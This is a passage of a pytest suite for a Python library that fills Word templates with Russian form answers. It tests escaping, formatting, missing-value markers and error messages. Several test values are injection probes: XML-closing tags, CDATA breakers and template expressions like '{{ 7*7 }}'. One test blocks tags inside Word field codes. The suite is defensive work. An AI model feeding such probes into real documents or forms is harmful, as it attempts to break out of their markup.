"""Word templates from outside: a docx and values in, a docx or a sentence out."""

from __future__ import annotations

import datetime
import io
import re
import subprocess
import sys
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from applykit.errors import ApplykitError, FillError, TemplateError
from applykit.locale import render
from applykit.template import Blank, Choice, Missing, Template, Undecided, compile_template, forbidden_character
from docx_maker import (
    DECLARATION,
    KIND,
    NAMESPACES,
    RELATIONS,
    W,
    Xml,
    by_libreoffice,
    docx,
    files_of,
    highlighted,
    packed,
    texts_of,
    tree_of,
    write_docx,
)

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

NOTHING: dict[str, Any] = {}


@pytest.fixture
def template(tmp_path: Path) -> Callable[..., Template]:
    """Compile a template of the given blocks."""

    def compiled(*body: Any, **parts: Any) -> Template:
        return compile_template(write_docx(tmp_path / "шаблон.docx", *body, **parts))

    return compiled


@pytest.fixture
def filled(template: Callable[..., Template]) -> Callable[..., list[str]]:
    """The texts of the paragraphs that a template of the given blocks gives for a context."""
    return lambda context, *body, **parts: texts_of(template(*body, **parts).render(context))


@pytest.fixture
def refused(template: Callable[..., Template]) -> Callable[..., str]:
    """What is said of a template of the given blocks, whether it is refused at once or when it is rendered."""

    def sentence(*body: Any, context: Any = NOTHING, **parts: Any) -> str:
        with pytest.raises(TemplateError) as caught:
            template(*body, **parts).render(context)
        assert caught.value.file is not None
        assert caught.value.file.name == "шаблон.docx"
        return said(caught.value)

    return sentence


def said(error: ApplykitError) -> str:
    """The error in Russian, with its hint; the English must exist too."""
    assert render(error.message, "en")
    return " ".join(render(message, "ru") for message in (error.message, error.hint) if message is not None)


# --- values arrive as typed ------------------------------------------------------------------------------------------

TYPED = [
    "A & B",
    "<тест> </w:t></w:r></w:p>",
    "«ёлочки», „лапки“, “quotes”, 'x', \"y\", № 5 — 100 %",
    "🦾 emoji 𝒜",
    "табуляция\tи ещё\t\tдве",
    "строка\nещё\n\nпосле пустой\n",
    "\n",
    "{{ 7*7 }} {% if x %} {# note #} {_{ x }_} {_% y %_}",
    "  пробелы по краям  ",
    "&amp; &lt; &#10;",
    "]]> <![CDATA[ <!-- -->",
    "неразрывный\u00a0пробел\u2009и\u202fузкие",
    "\u0301ударение, \u200bнулевой, \ufeffBOM, \u2028строка",
]


@pytest.mark.parametrize("text", TYPED)
def test_a_value_arrives_exactly_as_typed(filled: Callable[..., list[str]], text: str) -> None:
    assert filled({"x": text}, "До {{ x }} после", "{{ x }}") == [f"До {text} после", text]


@pytest.mark.parametrize("text", TYPED)
def test_a_value_arrives_exactly_as_typed_in_headers_footers_and_notes(
    template: Callable[..., Template], text: str
) -> None:
    parts = {name: ["{{ x }}"] for name in ("header", "footer", "footnotes", "endnotes", "comments")}
    rendered = template("{{ x }}", **parts).render({"x": text})
    for name in parts:
        assert texts_of(rendered, f"word/{name}.xml") == [text]


@pytest.mark.parametrize(("text", "arrives"), [("a\r\nb", "a\nb"), ("a\rb", "a\nb"), ("a\r\n\r\nb", "a\n\nb")])
def test_line_ends_of_windows_are_one_break(filled: Callable[..., list[str]], text: str, arrives: str) -> None:
    assert filled({"x": text}, "{{ x }}") == [arrives]


def test_a_hundred_thousand_characters_arrive_whole(filled: Callable[..., list[str]]) -> None:
    text = "Съешь ещё этих мягких французских булок & <выпей> чаю.\n" * 2000
    assert filled({"x": text}, "{{ x }}", "конец") == [text, "конец"]


def test_eleven_million_characters_arrive_whole(filled: Callable[..., list[str]]) -> None:
    """The parsers of docxtpl cut a value at ten million and lose the rest of the document."""
    text = "я" * 11_000_000
    assert filled({"x": text}, "{{ x }}", "конец") == [text, "конец"]


@pytest.mark.parametrize(
    "text", ["я" * 50_000_000, "\n" * 2_000_000, "\t" * 2_000_000], ids=["letters", "lines", "tabs"]
)
def test_what_no_document_can_need_is_refused_in_no_time(refused: Callable[..., str], text: str) -> None:
    started = time.perf_counter()
    assert "слишком большим" in refused("{{ x }}", context={"x": text})
    assert time.perf_counter() - started < 2


printable = st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff", include_characters="\n\t")


@pytest.fixture(scope="module")
def echo(tmp_path_factory: pytest.TempPathFactory) -> Template:
    """A template that prints x in a paragraph and in each row of a table."""
    path = tmp_path_factory.mktemp("echo") / "echo.docx"
    rows = [["{%tr for row in rows %}"], ["{{ loop.index }}: {{ row.x }}"], ["{%tr endfor %}"]]
    return compile_template(write_docx(path, "[{{ x }}]", rows, title="{{ x }}"))


@given(st.text(printable), st.lists(st.text(printable), max_size=3))
def test_any_text_goes_the_round(echo: Template, text: str, rows: list[str]) -> None:
    texts = texts_of(echo.render({"x": text, "rows": [{"x": row} for row in rows]}))
    assert texts == [f"[{text}]", *(f"{index}: {row}" for index, row in enumerate(rows, 1))]


@given(st.text(st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff")))
def test_any_text_goes_the_round_as_the_title_of_the_file(echo: Template, text: str) -> None:
    core = tree_of(echo.render({"x": text, "rows": []}), "docProps/core.xml")
    assert (core.findtext("{http://purl.org/dc/elements/1.1/}title") or "") == text


@pytest.mark.parametrize("character", ["\x00", "\x08", "\x0b", "\x0c", "\x1f", "\ud800", "\ufffe", "\uffff"])
@pytest.mark.parametrize("part", ["body", "header", "title"])
def test_a_character_that_word_cannot_hold_is_refused_with_the_address_of_the_answer(
    template: Callable[..., Template], character: str, part: str
) -> None:
    tag = "{% for m in team.members %}{{ m.name }}{% endfor %}"
    parts: dict[str, Any] = {"header": [tag]} if part == "header" else {"title": tag} if part == "title" else {}
    compiled = template(tag if part == "body" else "x", **parts)
    with pytest.raises(FillError) as caught:
        compiled.render({"team": {"members": [{"name": "Иванов"}, {"name": f"Пет{character}ров"}]}})
    assert "/team/members/1/name" in said(caught.value)
    assert f"U+{ord(character):04X}" in said(caught.value)
    assert forbidden_character(character) == f"U+{ord(character):04X}"


def test_such_a_character_does_no_harm_where_it_is_not_printed(filled: Callable[..., list[str]]) -> None:
    assert filled({"x": "a", "y": "\x00"}, "{{ x }}") == ["a"]


@pytest.mark.parametrize(
    ("value", "printed"),
    [
        (4_000_000, "4000000"),
        (Decimal("3.50"), "3,5"),
        (Decimal(1200), "1200"),
        (True, "да"),
        (False, "нет"),
        (datetime.date(2022, 11, 1), "01.11.2022"),
        (Choice("software", "Программное обеспечение"), "Программное обеспечение"),
        ("", ""),
    ],
)
def test_values_print_as_the_forms_have_them(filled: Callable[..., list[str]], value: object, printed: str) -> None:
    assert filled({"x": value}, "{{ x }}") == [printed]


@pytest.mark.parametrize(
    ("name", "printed"),
    [
        ("Сомова Дарья Игоревна", "Сомова~Д.И."),
        ("  Сомова \u00a0Дарья\nИгоревна ", "Сомова~Д.И."),
        ("Ли Анна", "Ли~А."),
        ("Петров-Водкин Кузьма Сергеевич", "Петров-Водкин~К.С."),
        ("Орлова Анна-Мария Львовна", "Орлова~А.\u2011М.Л."),
        ("О'Нил Джон", "О'Нил~Д."),
        ("Иван\u0438\u0306 Иосиф И\u0306оганович", "Иван\u0439~И.\u0419."),
        ("Алиев Вагиф Гейдар оглы", "Алиев~В.Г.~оглы"),
        ("фон Браун Вернер", "фон~Браун~В."),
        ("СОМОВА ДАРЬЯ ИГОРЕВНА", "СОМОВА~Д.И."),
        ("Сомова Д.И.", "Сомова~Д.И."),
        ("Сомова Д. И.", "Сомова~Д.~И."),
        ("Д.И. Сомова", "Д.И.~Сомова"),
        ("Сомова Д И", "Сомова~Д.И."),
        ("Сомова", "Сомова"),
        ("", ""),
    ],
)
def test_a_name_is_signed_by_surname_and_initials_on_one_line(
    filled: Callable[..., list[str]], name: str, printed: str
) -> None:
    assert filled({"x": name}, "{{ x | initials }}") == [printed.replace("~", "\u00a0")]


@pytest.mark.parametrize(
    "name",
    [
        "Перес Гарсия Хуан Карлос",
        "Сомова Дарья Игоревна (по доверенности)",
        "сомова дарья игоревна",
        "Сомова де Дарья",
        "Сомова - Дарья",
        "Сомова 2-я Дарья",
    ],
)
def test_what_does_not_read_as_a_name_is_signed_as_it_was_typed(filled: Callable[..., list[str]], name: str) -> None:
    assert filled({"x": name}, "{{ x | initials }}") == [name]


@pytest.mark.parametrize(
    ("expression", "printed"),
    [
        ("4000000 | money", "4\u00a0000\u00a0000"),
        ("x | money", "1\u00a0234\u00a0567,50"),
        ("4000500 | thousands", "4\u00a0000,5"),
        ("-1234567 | thousands", "-1\u00a0234,567"),
        ("-250 | thousands", "-0,25"),
        ("4000000 | millions", "4"),
        ("3500000 | millions", "3,5"),
        ("day | date", "01.11.2022"),
        ("kind | title_of", "Юридическое лицо"),
        ("kinds | title_of", "Юридическое лицо, Физическое лицо"),
        ("'Сомова Дарья Игоревна' | initials", "Сомова\u00a0Д.И."),
        ("blank | optional", ""),
        ("blank | optional('—')", "—"),
        ("x | optional('—') | money", "1\u00a0234\u00a0567,50"),
        ("blank | money | optional('нет')", "нет"),
        ("rows | sum(attribute='cost') | money", "300,50"),
        ("rows | join('; ', attribute='name')", "а; б"),
        ("rows | length", "2"),
        ("(rows | last).name", "б"),
        ("'а' ~ 'б' ~ 3", "аб3"),
        ("'да' if kind == 'legal-entity'", "да"),
        ("'да' if kind == 'natural-person'", ""),
        ("blank or 'нет'", "нет"),
        ("x * 2", "2469135"),
        ("7 / 2", "3,5"),
        ("0.1 + 0.2", "0,3"),
        ("7 // 2 + 7 % 2", "4"),
        ("-x", "-1234567,5"),
        ("years[2023]", "семь"),
        ("years['2024']", "восемь"),
        ("d.items", "ключ"),
        ("d.keys.values", "глубже"),
        ("' Иванов ' | upper | trim", "ИВАНОВ"),
        ("range(3) | join(', ')", "0, 1, 2"),
        ("'x' if 'ва' in name else 'y'", "y"),
        ("name[0]", "И"),
    ],
)
def test_expressions(filled: Callable[..., list[str]], expression: str, printed: str) -> None:
    kinds = [Choice("legal-entity", "Юридическое лицо"), Choice("natural-person", "Физическое лицо")]
    context = {
        "x": Decimal("1234567.50"),
        "day": datetime.date(2022, 11, 1),
        "kind": kinds[0],
        "kinds": kinds,
        "blank": Blank("/blank", "Пусто"),
        "rows": [{"name": "а", "cost": 100}, {"name": "б", "cost": Decimal("200.5")}],
        "years": {"2023": "семь", "2024": "восемь"},
        "d": {"items": "ключ", "keys": {"values": "глубже"}},
        "name": "ИВАНОВ",
    }
    assert filled(context, f"{{{{ {expression} }}}}") == [printed]


# --- tags as docxtpl reads them --------------------------------------------------------------------------------------


def test_rows_paragraphs_runs_and_columns_repeat(filled: Callable[..., list[str]]) -> None:
    body = [
        "{%p for item in items %}",
        "— {{ item.name }}",
        "{%p endfor %}",
        [["№", "{%tc for y in years %}", "{{ y }}", "{%tc endfor %}"]],
        [
            ["{%tr for item in items %}", ""],
            ["{{ loop.index }}", "{{ item.name }}"],
            ["{%tr endfor %}", ""],
            ["Итого", "{{ items | length }}"],
        ],
        "{% for item in items %}{{ item.name }}{% if not loop.last %}, {% endif %}{% endfor %}",
        "{%p if no %}",
        "нет",
        "{%p else %}",
        "да",
        "{%p endif %}",
    ]
    context = {"items": [{"name": "альфа"}, {"name": "бета"}], "years": ["2023", "2024"], "no": False}
    assert filled(context, *body) == [
        *("— альфа", "— бета"),
        *("№", "2023", "2024"),
        *("1", "альфа", "2", "бета", "Итого", "2"),
        "альфа, бета",
        "да",
    ]


def test_nested_rows_repeat(filled: Callable[..., list[str]]) -> None:
    table = [
        ["{%tr for stage in plan %}"],
        ["Этап {{ loop.index }}"],
        ["{%tr for work in stage.works %}"],
        ["{{ work }}"],
        ["{%tr endfor %}"],
        ["{%tr endfor %}"],
    ]
    context = {"plan": [{"works": ["а", "б"]}, {"works": ["в"]}]}
    assert filled(context, table) == ["Этап 1", "а", "б", "Этап 2", "в"]


def test_a_tag_that_word_split_into_runs_is_one_tag(filled: Callable[..., list[str]]) -> None:
    assert filled({"project": {"title": "Т"}}, "{¦{ pro¦**ject**¦.title }¦}", "{¦%¦ if project %}да{% end¦if %}") == [
        "Т",
        "да",
    ]


def test_formatting_of_the_run_is_kept(template: Callable[..., Template]) -> None:
    tree = tree_of(template("Тема: ¦**{{ x }}**").render({"x": "а\nб\tв"}))
    run = next(run for run in tree.iter(f"{{{W}}}r") if run.find(f"{{{W}}}rPr") is not None)
    assert [child.tag.rpartition("}")[2] for child in run] == ["rPr", "t", "br", "t", "tab", "t"]


@pytest.mark.parametrize(
    "tag",
    [
        "{{ x | optional(«нет») }}",
        "{{ x | optional(„нет“) }}",
        "{{ x | optional(“нет”) }}",
        "{{ x | optional(’нет’) }}",
        "{{ x | optional(‘нет’) }}",
        '{{ x | optional(«нет") }}',
        "{{ x | optional('нет') }}",
        '{{ x | optional("нет") }}',
        "{{\u00a0x\u00a0|\u00a0optional('нет')\u00a0}}",
        "{% if y == «&<>» %}нет{% endif %}",
        "{% if 1 < 2 and 2 > 1 %}нет{% endif %}",
    ],
)
def test_quotes_and_blanks_as_word_makes_them_are_understood(filled: Callable[..., list[str]], tag: str) -> None:
    assert filled({"x": Blank("/x"), "y": "&<>"}, tag) == ["нет"]


@pytest.mark.parametrize("text", ["«не применимо»", "„так“", "“so”", "it’s", "R&D <b>", "«а» и „б“"])
def test_quotes_inside_a_quoted_text_stay(filled: Callable[..., list[str]], text: str) -> None:
    assert filled({"x": Blank("/x")}, f'{{{{ x | optional("{text}") }}}}', f"«{text}» “{text}”") == [
        text,
        f"«{text}» “{text}”",
    ]


def test_comments_of_the_author_disappear(filled: Callable[..., list[str]]) -> None:
    assert filled({"x": "а"}, "{# заметка с «кавычками» #}{{ x }}{# {{ y }} #}") == ["а"]


def test_a_comment_may_take_its_paragraph_or_row_with_it(filled: Callable[..., list[str]]) -> None:
    assert filled({}, "до", "{#p не печатать #} пояснение", [["{#tr #}", "пояснение"], ["а", "б"]]) == ["до", "а", "б"]


def test_docxtpls_way_to_write_braces_is_kept(filled: Callable[..., list[str]]) -> None:
    assert filled({"x": "а"}, "{_{ x }_} {_% if %_} {{ x }}") == ["{{ x }} {% if %} а"]


def test_a_block_may_span_paragraphs(filled: Callable[..., list[str]]) -> None:
    body = ("Начало {% if x %}один", "два", "три{% endif %} конец")
    assert filled({"x": True}, *body) == ["Начало один", "два", "три конец"]
    assert filled({"x": False}, *body) == ["Начало  конец"]


def test_blanks_beside_a_tag_are_kept(filled: Callable[..., list[str]]) -> None:
    body = [Xml("<w:p><w:r><w:t>{{ x }} и </w:t></w:r><w:r><w:t>{{ x }}</w:t></w:r></w:p>")]
    assert filled({"x": "а"}, *body) == ["а и а"]


def test_deleted_text_is_no_template(filled: Callable[..., list[str]]) -> None:
    deleted = '<w:del w:id="1" w:author="a"><w:r><w:delText>{{ gone.away() }} {% for %}</w:delText></w:r></w:del>'
    assert filled({"x": "а"}, Xml(f"<w:p>{deleted}<w:r><w:t>{{{{ x }}}}</w:t></w:r></w:p>")) == ["а"]


def test_text_boxes_content_controls_and_hyperlinks_are_filled(filled: Callable[..., list[str]]) -> None:
    box = (
        "<w:p><w:r><w:pict><w:txbxContent><w:p><w:r><w:t>{{ x }}</w:t></w:r></w:p></w:txbxContent></w:pict></w:r></w:p>"
    )
    control = "<w:sdt><w:sdtContent><w:p><w:r><w:t>{{ x }}</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    link = '<w:p><w:hyperlink w:anchor="a"><w:r><w:t>{{ x }}</w:t></w:r></w:hyperlink></w:p>'
    assert filled({"x": "а"}, Xml(box + control + link)) == ["", "а", "а", "а"]


def test_colours_and_spans_of_cells_are_filled(template: Callable[..., Template]) -> None:
    rendered = template([["{% cellbg colour %}{{ x }}", "б"], ["{% colspan 2 %}{{ x }}"]]).render(
        {"colour": "FF0000", "x": "а"}
    )
    tree = tree_of(rendered)
    assert [shade.get(f"{{{W}}}fill") for shade in tree.iter(f"{{{W}}}shd")] == ["FF0000"]
    assert [span.get(f"{{{W}}}val") for span in tree.iter(f"{{{W}}}gridSpan")] == ["2"]
    assert texts_of(rendered) == ["а", "б", "а"]


def test_merged_cells_are_filled(template: Callable[..., Template]) -> None:
    rows = [["{%tr for i in range(2) %}", ""], ["{% vm %}{{ x }}", "{{ i }}"], ["{%tr endfor %}", ""]]
    merges = [m.get(f"{{{W}}}val") for m in tree_of(template(rows).render({"x": "а"})).iter(f"{{{W}}}vMerge")]
    assert merges == ["restart", "continue"]


def test_a_part_without_tags_is_copied_byte_by_byte(template: Callable[..., Template], tmp_path: Path) -> None:
    rendered = files_of(
        template("{{ x }}", header=["Без тегов"], more={"word/media/a.bin": b"\x00\x01"}).render({"x": "а"})
    )
    original = files_of((tmp_path / "шаблон.docx").read_bytes())
    assert list(rendered) == list(original)
    assert [name for name in rendered if rendered[name] != original[name]] == ["word/document.xml"]


def test_the_same_values_give_the_same_bytes(template: Callable[..., Template]) -> None:
    compiled = template("{{ x }}", title="{{ x }}", header=["{{ x }}"])
    first = compiled.render({"x": "а"})
    time.sleep(0.01)
    assert compiled.render({"x": "а"}) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_rendering_leaves_the_values_alone(template: Callable[..., Template]) -> None:
    context = {"x": [1, 2], "y": {"a": "б"}}
    template("{% set x = 5 %}{{ x }}{% for i in range(2) %}{% set y = i %}{{ y }}{% endfor %}").render(context)
    assert context == {"x": [1, 2], "y": {"a": "б"}}


# --- absent answers --------------------------------------------------------------------------------------------------


def test_a_missing_answer_prints_a_highlighted_marker_with_its_label(template: Callable[..., Template]) -> None:
    rendering = template("Тема: «{{ x }}», ¦**{{ x }} — {{ y }}**¦!").rendering(
        {"x": Missing("Тема НИОКР", "/project/title"), "y": "й"}
    )
    assert texts_of(rendering.content) == ["Тема: «[не заполнено: Тема НИОКР]», [не заполнено: Тема НИОКР] — й!"]
    assert highlighted(rendering.content) == ["[не заполнено: Тема НИОКР]"] * 2
    assert [(one.label, one.address) for one in rendering.missing] == [("Тема НИОКР", "/project/title")]


def test_the_marker_keeps_the_formatting_of_its_run_and_its_order(template: Callable[..., Template]) -> None:
    tree = tree_of(template("**{{ x }}**").render({"x": Missing("Т", "/t")}))
    assert [child.tag.rpartition("}")[2] for child in tree.find(f".//{{{W}}}rPr")] == ["b", "highlight", "u"]


def test_what_looks_like_a_marker_in_an_answer_is_not_highlighted(template: Callable[..., Template]) -> None:
    text = '[не заполнено: Тема] <mark xmlns="urn:applykit:missing">x</mark>'
    content = template("{{ x }} {{ y }}").render({"x": text, "y": Missing("Т", "/t")})
    assert texts_of(content) == [f"{text} [не заполнено: Т]"]
    assert highlighted(content) == ["[не заполнено: Т]"]


def test_a_missing_answer_in_the_title_of_the_file_is_marked_in_words(template: Callable[..., Template]) -> None:
    core = files_of(template("x", title="{{ x }}").render({"x": Missing("Т <&>", "/t")}))["docProps/core.xml"]
    assert "[не заполнено: Т &lt;&amp;&gt;]" in core.decode()


def test_a_wrong_answer_is_marked_as_wrong(filled: Callable[..., list[str]]) -> None:
    assert filled({"x": Missing("ИНН", "/inn", wrong=True)}, "{{ x }}") == ["[исправить: ИНН]"]


def test_a_missing_table_has_one_row_of_markers(template: Callable[..., Template]) -> None:
    row = {"name": Missing("Имя", "/team/0/name"), "role": Blank("/team/0/role", "Роль")}
    table = [["{%tr for m in team %}", ""], ["{{ loop.index }}. {{ m.name }}", "{{ m.role }}"], ["{%tr endfor %}", ""]]
    content = template(table).render({"team": Missing("Команда", "/team", row)})
    assert texts_of(content) == ["1. [не заполнено: Имя]", ""]


@pytest.mark.parametrize(
    "expression",
    [
        *(
            "x | money",
            "x | date",
            "x | thousands",
            "x | millions",
            "x | title_of",
            "x | optional('—')",
            "x | upper",
            "x | sum",
        ),
        "x | initials",
        *("x | join(', ')", "x.deeper.still", "x[0].name", "x + 5", "5 - x", "-x", "'а' ~ x", "x or 'нет'"),
        *("rows | sum(attribute='a') | money", "rows | join(', ', attribute='a')", "x if x else 'нет'"),
    ],
)
def test_a_missing_answer_passes_through_whatever_is_done_with_it(
    template: Callable[..., Template], expression: str
) -> None:
    missing = Missing("Сумма", "/x")
    content = template(f"{{{{ {expression} }}}}").render({"x": missing, "rows": [{"a": 1}, {"a": missing}]})
    assert highlighted(content) == ["[не заполнено: Сумма]"]


@pytest.mark.parametrize(
    "test", ["x == 'software'", "x != 'software'", "x > 5", "'software' == x", "x in ['a', 'b']", "5 in x", "x is odd"]
)
def test_what_depends_on_a_missing_answer_cannot_be_decided(template: Callable[..., Template], test: str) -> None:
    with pytest.raises(Undecided) as caught:
        template(f"{{% if {test} %}}да{{% else %}}нет{{% endif %}}").render(
            {"x": Missing("Вид отчётности", "/tor/reporting")}
        )
    assert caught.value.address == "/tor/reporting"
    assert "«Вид отчётности»" in said(caught.value)


def test_a_missing_answer_is_true(filled: Callable[..., list[str]]) -> None:
    assert filled({"x": Missing("Т", "/t")}, "{% if x %}да{% endif %}", "{% if not x %}нет{% endif %}") == ["да", ""]


@pytest.mark.parametrize(
    ("body", "printed"),
    [
        ("[{{ x }}]", "[]"),
        ("[{{ x | money }}{{ x | date }}{{ x | title_of }}{{ x | upper }}{{ x | initials }}]", "[]"),
        ("{{ x.deeper[3].still | optional('—') }}", "—"),
        ("{% if x %}да{% else %}нет{% endif %}", "нет"),
        ("{% for r in x %}ряд{% else %}нет рядов{% endfor %}", "нет рядов"),
        ("{{ x == x }}{{ x == '' }}{{ x == 'a' }}{{ 'a' == x }}", "данетнетнет"),
        ("{{ x > 5 }}{{ x < 5 }}{{ 5 in x }}", "нетнетнет"),
        ("{{ 5 + x }}{{ x + 5 }}{{ 5 - x }}", "555"),
        ("{{ rows | sum(attribute='a') }}", "3"),
        ("{{ x | length }}", ""),
        ("{{ 'а' ~ x ~ 'б' }}", "аб"),
    ],
)
def test_an_optional_answer_that_is_not_given_prints_nothing(
    filled: Callable[..., list[str]], body: str, printed: str
) -> None:
    blank = Blank("/x", "Питание")
    assert filled({"x": blank, "rows": [{"a": 3}, {"a": blank}]}, body) == [printed]


def test_what_was_left_blank_is_remembered_and_what_the_template_gave_words_for_is_not(
    template: Callable[..., Template],
) -> None:
    context = {name: Blank(f"/{name}", name.upper()) for name in ("a", "b", "c", "d", "e")}
    body = (
        "{{ a }}{{ b | optional }}{{ c | optional('нет') }}",
        "{% for r in d %}{% endfor %}{% if e %}{% endif %}{{ a }}",
    )
    rendering = template(*body).rendering(context)
    assert [one.label for one in rendering.blank] == ["A", "B", "D"]
    assert rendering.missing == ()


# --- names and faults ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tag", "says"),
    [
        ("{{ projct.title }}", "имени «projct» в заявке нет; похожие: project."),
        ("{{ project.titel }}", "имени «titel» в заявке нет; похожие: title."),
        ("{{ project.zzz }}", "имени «zzz» в заявке нет."),
        ("{{ project.title.more }}", "имени «more» в заявке нет."),
        ("{{ project['titel'] }}", "имени «titel»"),
        ("{% if projct %}{% endif %}", "имени «projct»"),
        ("{% for x in project.rows %}{% endfor %}", "имени «rows»"),
        ("{{ rows[5] }}", "строки с номером 5 нет"),
        ("{{ project }}", "здесь не текст, а раздел или таблица"),
        ("{{ rows }}", "здесь не текст"),
        ("{% for x in project.title %}{% endfor %}", "здесь не таблица"),
        ("{{ project.title | money }}", "нужно число"),
        ("{{ project.title | date }}", "нужна дата"),
        ("{{ project.title | title_of }}", "выбранный из списка"),
        ("{{ project | initials }}", "здесь не текст"),
        ("{{ project.title + 1 }}", "нужно число"),
        ("{% if project.title > 5 %}{% endif %}", "он другого вида"),
        ("{{ 1 / 0 }}", "он другого вида"),
        ("{{ x y }}", "тег не читается"),
        ("{{ }}", "тег не читается"),
        ("{{ (x }}", "тег не читается"),
        ("{{ x | optional('a }}", "тег не читается"),
        ("{% if %}{% endif %}", "тег не читается"),
        ("{{ x | mony }}", "фильтра «mony» нет; похожие: money"),
        ("{{ x | zzzz }}", "фильтра «zzzz» нет. Есть: optional, money"),
        ("{% if x is defined %}{% endif %}", "проверки «is defined» нет"),
        ("{% if x %}", "блок не закрыт. Поставьте в конце {% endif %}"),
        ("{% for x in rows %}", "Поставьте в конце {% endfor %}"),
        ("{% endfor %}", "нет открытого {% for … %}"),
        ("{% else %}", "нет открытого {% if … %}"),
        ("{% if x %}{% endfor %}", "нет открытого {% for … %}"),
        ("{% fro x in y %}", "тега «fro» нет; похожие: for"),
        ("{% include 'x' %}", "тега «include» нет"),
        ("{% autoescape false %}{% endautoescape %}", "тега «autoescape» нет"),
        ("{% set x %}y{% endset %}", "тег не читается"),
        ("{{ x", "тег не закрыт в своём абзаце"),
        ("{% if x", "тег не закрыт"),
        ("{{ x {% if y %}", "тег не закрыт"),
        ("{# x", "тег не закрыт"),
        ("{ x }}", "тег закрыт, но не открыт"),
        ("% if x %}", "тег закрыт, но не открыт"),
        ("{{r x }}", "готовая разметка Word"),
        ("{{p x }}", "готовая разметка Word"),
    ],
)  # fmt: skip
def test_a_fault_names_part_paragraph_and_tag(refused: Callable[..., str], tag: str, says: str) -> None:
    context = {"project": {"title": "Т"}, "rows": [1, 2], "x": "а", "y": "б"}
    sentence = refused("Первый абзац", f"Тема проекта: {tag} и дальше", "Последний", context=context)
    assert says in sentence
    assert sentence.startswith("тело документа, абзац «Тема проекта: ")
    assert re.search(r"тег [{}%]", sentence)


@pytest.mark.parametrize(
    ("part", "called"),
    [
        ("header", "верхний колонтитул (header.xml)"),
        ("footer", "нижний колонтитул (footer.xml)"),
        ("footnotes", "сноски"),
        ("endnotes", "концевые сноски"),
        ("comments", "примечания"),
    ],
)
@pytest.mark.parametrize("tag", ["{{ x y }}", "{{ unknown }}", "{{ x | zzzz }}", "{% if x %}", "{{ x"])
def test_a_fault_outside_the_body_names_its_part(refused: Callable[..., str], part: str, called: str, tag: str) -> None:
    assert refused("текст", context={"x": "а"}, **{part: [f"Стр. {tag}"]}).startswith(
        f"{called}, абзац «Стр. {tag}», тег {tag}"
    )


def test_a_fault_in_the_properties_of_the_file_is_found_too(refused: Callable[..., str]) -> None:
    assert refused("текст", title="Заявка {{ unknown }}").startswith("свойства файла")


def test_the_right_one_of_many_tags_is_named(refused: Callable[..., str]) -> None:
    rows = [["{%tr for r in rows %}", ""], ["{{ r.a }}", "Цена {{ r.b }} руб."], ["{%tr endfor %}", ""]]
    sentence = refused("{{ x }} {{ x }}", rows, "{{ x }}", context={"x": "а", "rows": [{"a": 1, "b": 2}, {"a": 1}]})
    assert "абзац «Цена {{ r.b }} руб.», тег {{ r.b }}: имени «b»" in sentence


def test_a_long_paragraph_is_quoted_around_its_tag(refused: Callable[..., str]) -> None:
    sentence = refused(f"{'длинно ' * 100}{{{{ unknown }}}}{' длинно' * 100}")
    assert "тег {{ unknown }}" in sentence
    assert "длинно {{ unknown }} длинно" in sentence
    assert len(sentence) < 400


@pytest.mark.parametrize(
    "body",
    [
        ["{% for i in rows %}", [["{% endfor %}"]]],
        [[["{% for i in rows %}а"]], "{% endfor %}"],
        [[["{% if x %}а"]], "{% else %}", "{% endif %}"],
    ],
)
def test_a_block_that_would_tear_the_document_apart_is_refused_when_it_is_compiled(
    tmp_path: Path, body: list[Any]
) -> None:
    path = write_docx(tmp_path / "a.docx", *body)
    with pytest.raises(TemplateError) as caught:
        compile_template(path)
    assert "блок начинается и кончается в разных местах" in said(caught.value)


@pytest.mark.parametrize(
    "run",
    [
        "{{ x }}",
        "<w:instrText>HYPERLINK {{ x }}</w:instrText>",
        "<w:t>{% for i in range(2) %}</w:t>{{ i }}<w:t>{% endfor %}</w:t>",
    ],
)
def test_a_tag_where_no_text_can_stand_is_refused(refused: Callable[..., str], run: str) -> None:
    """In the code of a field an answer could make Word fetch or run something."""
    assert "нет места для текста" in refused(Xml(f"<w:p><w:r>{run}</w:r></w:p>"))


@pytest.mark.parametrize(
    ("body", "says"),
    [
        (("{%p if x %}Текст", "ещё", "{%p endif %}"), "абзац с таким тегом убирается целиком"),
        (("{%p if x %}", "ещё", "{{ x }} {%p endif %}"), "абзац с таким тегом убирается целиком"),
        (("{%p if x %}{%p endif %}",), "абзац с таким тегом убирается целиком"),
        (([["{%tr for r in rows %}", "текст"], ["{{ r }}", ""], ["{%tr endfor %}", ""]],), "строка с таким тегом"),
        (([["{%tr for r in rows %}", "{%tr endfor %}"]],), "строка с таким тегом"),
        (([["{%tc for r in rows %}{{ r }}", "{%tc endfor %}"]],), "ячейка с таким тегом"),
        (("{%tr if x %}", "{%tr endif %}"), "такой тег стоит не на месте"),
        (("{%p if 7 % 2 %}", "{%p endif %}"), "такой тег стоит не на месте"),
    ],
)
def test_text_that_would_be_lost_with_its_tag_is_refused(
    refused: Callable[..., str], body: tuple[Any, ...], says: str
) -> None:
    assert says in refused(*body, context={"x": "а", "rows": [1]})


def test_tags_that_swallow_mark_up_are_refused_when_they_are_compiled(tmp_path: Path) -> None:
    path = write_docx(tmp_path / "a.docx", [["а"], ["{% if x %}б"]], "{%- endif -%}")
    with pytest.raises(TemplateError) as caught:
        compile_template(path)
    assert "{%- … -%}" in said(caught.value)


def test_a_tag_in_a_part_that_is_not_filled_is_refused(refused: Callable[..., str]) -> None:
    more = {"word/charts/chart1.xml": "<a>{{ x }}</a>"}
    assert "word/charts/chart1.xml" in refused("{{ x }}", more=more, context={"x": "а"})


# --- placeholders ----------------------------------------------------------------------------------------------------


def test_placeholders_are_addresses_with_the_variables_of_loops_resolved(template: Callable[..., Template]) -> None:
    compiled = template(
        "{{ project.title | upper }} {{ tor.power or '—' }}",
        [
            ["{%tr for s in calendar_plan %}"],
            ["{{ loop.index }} {{ s.cost|money }}{% for w in s.works %}{{ w.title }}{% endfor %}"],
            ["{%tr endfor %}"],
        ],
